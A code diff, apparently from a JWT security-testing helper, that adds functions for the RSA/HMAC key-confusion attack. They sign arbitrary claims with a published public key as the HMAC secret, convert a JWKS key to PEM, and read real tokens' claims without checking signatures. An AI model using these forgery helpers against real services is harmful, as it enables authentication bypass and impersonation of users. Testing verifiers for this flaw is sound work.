@@ -66,10 +66,28 @@ def unsigned(claims: dict[str, Any], kid: str) -> str:
 
 def hs256_with_public_key(claims: dict[str, Any], key: SigningKey) -> str:
     """The key-confusion attack: HMAC-signed with the RSA public key as secret."""
+    return hs256_with_pem(claims, key.public_pem(), key.kid)
+
+
+def hs256_with_pem(claims: dict[str, Any], public_pem: bytes, kid: str) -> str:
+    """The key-confusion attack against any published key: HMAC-SHA256 with its PEM."""
     import hashlib
     import hmac
 
-    header = _b64(json.dumps({"alg": "HS256", "kid": key.kid, "typ": "JWT"}).encode())
+    header = _b64(json.dumps({"alg": "HS256", "kid": kid, "typ": "JWT"}).encode())
     payload = _b64(json.dumps(claims).encode())
-    mac = hmac.new(key.public_pem(), f"{header}.{payload}".encode(), hashlib.sha256).digest()
+    mac = hmac.new(public_pem, f"{header}.{payload}".encode(), hashlib.sha256).digest()
     return f"{header}.{payload}.{_b64(mac)}"
+
+
+def public_pem_of_jwk(jwk: dict[str, Any]) -> bytes:
+    """The PEM of an RSA public key published in a JWKS (what an attacker can read)."""
+    public = jwt.algorithms.RSAAlgorithm.from_jwk(json.dumps(jwk))
+    return public.public_bytes(
+        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
+    )
+
+
+def unverified_claims(token: str) -> dict[str, Any]:
+    """The payload of a token, signature not checked (to copy a real token's claims)."""
+    return jwt.decode(token, options={"verify_signature": False})
